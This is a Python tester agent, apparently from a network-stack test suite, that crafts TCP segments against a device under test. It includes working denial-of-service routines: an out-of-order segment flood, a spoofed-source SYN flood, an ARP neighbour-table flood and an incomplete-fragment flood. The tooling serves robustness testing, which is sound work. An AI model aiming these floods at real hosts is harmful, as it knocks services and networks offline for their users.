#!/usr/bin/python3
"""Tester agent for the adversarial suite (packetimpact's "testbench" half, in one long-lived process).

Runs in the tester network namespace, on the veth end that faces the device under test (DUT). Commands
arrive on stdin as JSON lines; everything the DUT sends to us comes back on stdout as JSON lines:

  {"ev":"tcp", "src":..., "sport":..., "seq":..., "flags":"SA", "len":..., "data":"<hex>", "tsval":...}
  {"ev":"icmp", "type":0, "code":0, ...}
  {"ev":"sent"|"ok"|"attack"|"error", "id":<command id>, ...}

Sending: test segments are crafted with scapy (fidelity, odd headers, fragments); the two floods build raw
frames with struct (40,960 frames in seconds, not minutes). Receiving: a packet socket on the veth, frames
from the DUT's MAC only (the filter is in code: outgoing frames and other hosts are skipped). The tester's
kernel is kept silent by nftables (set up by the Java side); this agent also answers ARP for the spoofed
source range so that the DUT's SYN-ACKs to those addresses leave it and die here unanswered.

Usage: tester_agent.py IFACE MY_IP DUT_IP DUT_MAC SPOOF_FIRST SPOOF_LAST
"""
import binascii
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import threading
import time

from scapy.all import ARP, Ether, ICMP, IP, IPOption, Raw, TCP, conf, fragment  # noqa: E402

conf.verb = 0

IFACE, MY_IP, DUT_IP, DUT_MAC = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4].lower()
SPOOF_FIRST = int(ipaddress.IPv4Address(sys.argv[5]))
SPOOF_LAST = int(ipaddress.IPv4Address(sys.argv[6]))
with open("/sys/class/net/%s/address" % IFACE) as f:
    MY_MAC = f.read().strip().lower()
MY_MAC_B = binascii.unhexlify(MY_MAC.replace(":", ""))
DUT_MAC_B = binascii.unhexlify(DUT_MAC.replace(":", ""))

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
FLAG_LETTERS = "FSRPAUEC"

out_lock = threading.Lock()
tx_lock = threading.Lock()
rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
rx.bind((IFACE, 0))
tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
tx.bind((IFACE, 0))

# Frames for the floods go to their own handlers and are only counted, not reported.
attack_ports = {}  # local port -> callback(parsed dict)
stats = {"rx": 0, "rx_attack": 0, "rx_spoofed": 0, "arp_answered": 0}


def emit(obj):
    line = json.dumps(obj, separators=(",", ":"))
    with out_lock:
        sys.stdout.write(line + "\n")
        sys.stdout.flush()


def send_frame(frame):
    with tx_lock:
        tx.send(frame)


# ------------------------------------------------------------------------------------------- receive

def ip_int(b):
    return struct.unpack("!I", b)[0]


def parse_tcp(ip_hdr_len, pkt):
    t = pkt[ip_hdr_len:]
    if len(t) < 20:
        return None
    sport, dport, seq, ack, off_flags, win, _csum, urp = struct.unpack("!HHIIHHHH", t[:20])
    off = (off_flags >> 12) * 4
    flags = off_flags & 0xff
    d = {"ev": "tcp", "sport": sport, "dport": dport, "seq": seq, "ack": ack, "win": win, "urp": urp,
         "flags": "".join(FLAG_LETTERS[i] for i in range(8) if flags & (1 << i))}
    opts = t[20:off]
    i = 0
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(opts):
            break
        ln = opts[i + 1]
        if ln < 2 or i + ln > len(opts):
            d["badopts"] = True
            break
        body = opts[i + 2:i + ln]
        if kind == 2 and ln == 4:
            d["mss"] = struct.unpack("!H", body)[0]
        elif kind == 3 and ln == 3:
            d["ws"] = body[0]
        elif kind == 4:
            d["sackok"] = True
        elif kind == 5:
            d["sack"] = ",".join("%d:%d" % struct.unpack("!II", body[j:j + 8]) for j in range(0, len(body) - 7, 8))
        elif kind == 8 and ln == 10:
            d["tsval"], d["tsecr"] = struct.unpack("!II", body)
        elif kind == 34:
            d["tfo"] = binascii.hexlify(body).decode()
        i += ln
    payload = t[off:]
    d["len"] = len(payload)
    d["data"] = binascii.hexlify(payload[:65536]).decode()
    return d


def answer_arp(frame):
    # Ethernet/IPv4 ARP request from the DUT for an address in the spoofed range: we are it.
    op = struct.unpack("!H", frame[20:22])[0]
    target = ip_int(frame[38:42])
    if op == 1 and SPOOF_FIRST <= target <= SPOOF_LAST:
        reply = (frame[6:12] + MY_MAC_B + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04\x00\x02"
                 + MY_MAC_B + frame[38:42] + frame[22:28] + frame[28:32])
        send_frame(reply)
        stats["arp_answered"] += 1


def receive_loop():
    while True:
        frame, addr = rx.recvfrom(65535)
        if addr[2] == PACKET_OUTGOING or frame[6:12] != DUT_MAC_B:
            continue
        ethertype = struct.unpack("!H", frame[12:14])[0]
        if ethertype == 0x0806:
            answer_arp(frame)
            continue
        if ethertype != 0x0800:
            continue
        pkt = frame[14:]
        ihl = (pkt[0] & 0x0f) * 4
        total = struct.unpack("!H", pkt[2:4])[0]
        pkt = pkt[:total]
        ipid, frag = struct.unpack("!HH", pkt[4:8])
        proto = pkt[9]
        src = socket.inet_ntoa(pkt[12:16])
        dst = socket.inet_ntoa(pkt[16:20])
        stats["rx"] += 1
        if proto == 6:
            d = parse_tcp(ihl, pkt)
            if d is None:
                continue
            if SPOOF_FIRST <= ip_int(pkt[16:20]) <= SPOOF_LAST:
                stats["rx_spoofed"] += 1
                continue
            cb = attack_ports.get(d["dport"]) if dst == MY_IP else None
            if cb is not None:
                stats["rx_attack"] += 1
                cb(d)
                continue
        elif proto == 1:
            d = {"ev": "icmp", "type": pkt[ihl], "code": pkt[ihl + 1],
                 "data": binascii.hexlify(pkt[ihl + 4:ihl + 64]).decode()}
        else:
            d = {"ev": "ip", "proto": proto}
        d.update({"src": src, "dst": dst, "ipid": ipid, "df": bool(frag & 0x4000), "ttl": pkt[8],
                  "iplen": total, "ihl": ihl, "t": time.time()})
        emit(d)


# ------------------------------------------------------------------------------------------- crafting

def craft(spec):
    """A scapy packet from a segment spec (see Tcp.java for the field names)."""
    if "icmp_mtu" in spec:
        # ICMP destination unreachable, fragmentation needed (RFC 1191 §4), quoting the DUT's own segment:
        # its IP header and the first 8 bytes of TCP (ports and sequence number).
        quoted = IP(src=spec["dst"], dst=spec["src"], flags="DF", id=spec.get("ipid", 0),
                    len=spec.get("qlen", 1500)) / TCP(sport=spec["dport"], dport=spec["sport"],
                                                      seq=spec["seq"] & 0xffffffff, flags="A")
        return (IP(src=spec.get("src", MY_IP), dst=spec.get("dst", DUT_IP))
                / ICMP(type=3, code=4, nexthopmtu=spec["icmp_mtu"]) / bytes(quoted)[:28])
    ip = IP(src=spec.get("src", MY_IP), dst=spec.get("dst", DUT_IP), ttl=spec.get("ttl", 64),
            id=spec.get("ipid", random.randint(0, 65535)), flags="DF" if spec.get("df", True) else 0)
    if "ipopts" in spec:
        ip.options = [IPOption(binascii.unhexlify(spec["ipopts"]))]
    tcp = TCP(sport=spec["sport"], dport=spec["dport"], seq=spec.get("seq", 0) & 0xffffffff,
              ack=spec.get("ack", 0) & 0xffffffff, flags=spec.get("flags", "A"), window=spec.get("win", 65535),
              urgptr=spec.get("urp", 0))
    opts = []
    for name, value in spec.get("opts", []):
        if name == "Timestamp":
            value = (value[0] & 0xffffffff, value[1] & 0xffffffff)
        elif name == "TFO":
            value = binascii.unhexlify(value)
        opts.append((name, value))
    tcp.options = opts
    data = binascii.unhexlify(spec.get("data", ""))
    if "rawopts" in spec:
        # Options exactly as given (illegal ones included); the data offset covers them unless overridden.
        raw = binascii.unhexlify(spec["rawopts"])
        tcp.dataofs = spec.get("dataofs", 5 + (len(raw) + 3) // 4)
        raw = raw + b"\x00" * ((4 - len(raw) % 4) % 4)
        pkt = ip / tcp / Raw(raw + data)
    elif data:
        pkt = ip / tcp / Raw(data)
    else:
        pkt = ip / tcp
    if "dataofs" in spec and "rawopts" not in spec:
        tcp.dataofs = spec["dataofs"]
    if spec.get("badsum"):
        pkt = IP(bytes(pkt))
        pkt[TCP].chksum ^= 0x5555
    return pkt


def send_specs(cmd):
    frames = []
    for spec in cmd["segs"]:
        pkt = craft(spec)
        if "frag" in spec:
            parts = fragment(IP(bytes(pkt)), fragsize=spec["frag"])
            if spec.get("fragorder") == "reverse":
                parts.reverse()
            if "fragkeep" in spec:
                parts = parts[:spec["fragkeep"]]  # the rest never sent: the datagram stays incomplete
            frames.extend(parts)
        else:
            frames.append(pkt)
    gap = cmd.get("gap_ms", 0) / 1000.0
    for p in frames:
        send_frame(bytes(Ether(src=MY_MAC, dst=DUT_MAC) / p))
        if gap:
            time.sleep(gap)
    return {"frames": len(frames)}


# ------------------------------------------------------------------------------------------- floods

def csum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return (~s) & 0xffff


def raw_tcp(src, dst, sport, dport, seq, ack, flags, win=65535, opts=b"", data=b""):
    """An Ethernet/IPv4/TCP frame to the DUT, built without scapy (fast path for floods)."""
    off = 5 + len(opts) // 4
    hdr = struct.pack("!HHIIHHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff, (off << 12) | flags,
                      win, 0, 0) + opts
    seg = hdr + data
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    c = csum(s + d + struct.pack("!BBH", 0, 6, len(seg)) + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:]
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), random.randint(0, 65535), 0x4000, 64, 6, 0, s, d)
    iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
    return DUT_MAC_B + MY_MAC_B + b"\x08\x00" + iph + seg


F_FIN, F_SYN, F_RST, F_PSH, F_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
MSS_OPT = b"\x02\x04\x05\xb4"

flood_conns = {}  # sport -> [isn, dut_isn or None]


def ooo_attack(cmd):
    """Reproduction 1: N connections, each sending K one-byte segments with a one-byte hole before each."""
    target, dport = cmd.get("target", DUT_IP), cmd["dport"]
    conns, segs, base = cmd.get("conns", 160), cmd.get("segs", 256), cmd.get("base_port", 20000)
    batch = cmd.get("batch", 16)
    synacks = {}
    ev = threading.Event()

    def on_rx(d):
        if "S" in d["flags"] and "A" in d["flags"]:
            synacks[d["dport"]] = d["seq"]
            ev.set()

    ports = list(range(base, base + conns))
    for p in ports:
        attack_ports[p] = on_rx
        flood_conns[p] = [random.getrandbits(32), None, target, dport]
    established = []
    for i in range(0, conns, batch):
        group = ports[i:i + batch]
        for attempt in range(3):
            for p in group:
                if p not in synacks:
                    send_frame(raw_tcp(MY_IP, target, p, dport, flood_conns[p][0], 0, F_SYN, opts=MSS_OPT))
            deadline = time.time() + 1.0
            while time.time() < deadline and not all(p in synacks for p in group):
                ev.wait(0.05)
                ev.clear()
            if all(p in synacks for p in group):
                break
        for p in group:
            if p in synacks:
                flood_conns[p][1] = synacks[p]
                send_frame(raw_tcp(MY_IP, target, p, dport, flood_conns[p][0] + 1, synacks[p] + 1, F_ACK))
                established.append(p)
    emit({"ev": "attack", "id": cmd["id"], "phase": "connected", "n": len(established)})
    sent = 0
    pace = cmd.get("pace_every", 0)
    # More than one round re-sends what a busy receiver's ring lost (held bytes are merely duplicated).
    for k in [k for _ in range(cmd.get("rounds", 1)) for k in range(segs)]:
        for p in established:
            isn, dut_isn = flood_conns[p][0], flood_conns[p][1]
            # Byte 2k+1 of the stream; byte 2k (the hole) is never sent.
            send_frame(raw_tcp(MY_IP, target, p, dport, isn + 1 + 2 * k + 1, dut_isn + 1, F_ACK | F_PSH,
                               data=b"x"))
            sent += 1
            if pace and sent % pace == 0:
                time.sleep(0.001)
    return {"phase": "sent", "connected": len(established), "segments": sent}


def release_attack(cmd):
    n = 0
    for p, (isn, dut_isn, target, dport) in list(flood_conns.items()):
        if dut_isn is not None:
            send_frame(raw_tcp(MY_IP, target, p, dport, isn + 1, 0, F_RST))
            n += 1
        attack_ports.pop(p, None)
    flood_conns.clear()
    return {"reset": n}


def syn_flood(cmd):
    """Reproduction 2: SYNs from spoofed sources (never answered), at a fixed interval."""
    target, dport = cmd.get("target", DUT_IP), cmd["dport"]
    count, interval = cmd.get("count", 400), cmd.get("interval_ms", 2) / 1000.0
    span = SPOOF_LAST - SPOOF_FIRST + 1
    start = time.time()
    for i in range(count):
        src = str(ipaddress.IPv4Address(SPOOF_FIRST + i % span))
        sport = 1024 + random.randint(0, 60000)
        send_frame(raw_tcp(src, target, sport, dport, random.getrandbits(32), 0, F_SYN, opts=MSS_OPT))
        next_at = start + (i + 1) * interval
        delay = next_at - time.time()
        if delay > 0:
            time.sleep(delay)
    return {"sent": count, "seconds": round(time.time() - start, 3)}


def arp_flood(cmd):
    """Reproduction 3: ARP requests for the DUT's address from many spoofed neighbours (made-up MACs), so that a
    victim that learns every sender fills its neighbour table; rounds re-send them (refreshing what it learned)."""
    target = cmd.get("target", DUT_IP)
    first = int(ipaddress.IPv4Address(cmd["first"]))
    last = int(ipaddress.IPv4Address(cmd["last"]))
    rounds, pause = cmd.get("rounds", 1), cmd.get("pause_ms", 0) / 1000.0
    tpa = socket.inet_aton(target)
    sent = 0
    start = time.time()
    for _ in range(rounds):
        for a in range(first, last + 1):
            mac = b"\x02\xaa" + struct.pack("!I", a)  # locally administered, one per spoofed sender
            frame = (b"\xff" * 6 + mac + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04\x00\x01"
                     + mac + struct.pack("!I", a) + b"\x00" * 6 + tpa)
            send_frame(frame)
            sent += 1
        if pause > 0:
            time.sleep(pause)
    return {"sent": sent, "seconds": round(time.time() - start, 3)}


def frag_flood(cmd):
    """IPv4 fragments of datagrams that never complete: for each of `ids` datagrams (identification counting
    from `first_id`, sources cycling over the spoofed range), `per` fragments of `size` bytes at offsets 0,
    size, 2*size..., all with MF set (the last fragment never comes). Protocol TCP, payload zeros."""
    target = cmd.get("target", DUT_IP)
    ids, per, size = cmd.get("ids", 600), cmd.get("per", 16), cmd.get("size", 64)
    first_id = cmd.get("first_id", 1)
    span = SPOOF_LAST - SPOOF_FIRST + 1
    d = socket.inet_aton(target)
    body = b"\x00" * size
    sent = 0
    start = time.time()
    for i in range(ids):
        s = struct.pack("!I", SPOOF_FIRST + i % span)
        ident = (first_id + i) & 0xffff
        for k in range(per):
            iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + size, ident, 0x2000 | (k * size // 8), 64, 6, 0, s, d)
            iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
            send_frame(DUT_MAC_B + MY_MAC_B + b"\x08\x00" + iph + body)
            sent += 1
    return {"sent": sent, "seconds": round(time.time() - start, 3)}


def background(fn, cmd):
    def run():
        try:
            r = fn(cmd)
            r.update({"ev": "attack", "id": cmd["id"], "done": True})
            emit(r)
        except Exception as e:  # report, never die silently
            emit({"ev": "error", "id": cmd["id"], "error": repr(e)})
    threading.Thread(target=run, daemon=True).start()


# ------------------------------------------------------------------------------------------- main

def main():
    threading.Thread(target=receive_loop, daemon=True).start()
    emit({"ev": "ready", "mac": MY_MAC, "pid": os.getpid()})
    for line in sys.stdin:
        line = line.strip()
        if not line:
            continue
        cmd = json.loads(line)
        op, cid = cmd.get("op"), cmd.get("id")
        try:
            if op == "send":
                r = send_specs(cmd)
            elif op == "ooo_attack":
                background(ooo_attack, cmd)
                continue
            elif op == "syn_flood":
                background(syn_flood, cmd)
                continue
            elif op == "arp_flood":
                background(arp_flood, cmd)
                continue
            elif op == "frag_flood":
                background(frag_flood, cmd)
                continue
            elif op == "release_attack":
                r = release_attack(cmd)
            elif op == "stats":
                r = dict(stats)
            elif op == "quit":
                break
            else:
                raise ValueError("unknown op " + str(op))
            r.update({"ev": "ok", "id": cid})
            emit(r)
        except Exception as e:
            emit({"ev": "error", "id": cid, "error": repr(e)})


if __name__ == "__main__":
    main()
